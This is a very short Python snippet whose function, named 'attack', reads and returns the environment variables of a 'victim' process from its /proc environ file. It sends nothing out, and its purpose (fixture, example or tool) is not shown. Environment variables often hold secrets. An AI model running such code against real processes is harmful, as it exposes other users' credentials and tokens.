from pathlib import Path


def attack(target):
    return Path(f"/proc/{target['victim']}/environ").read_bytes().decode()
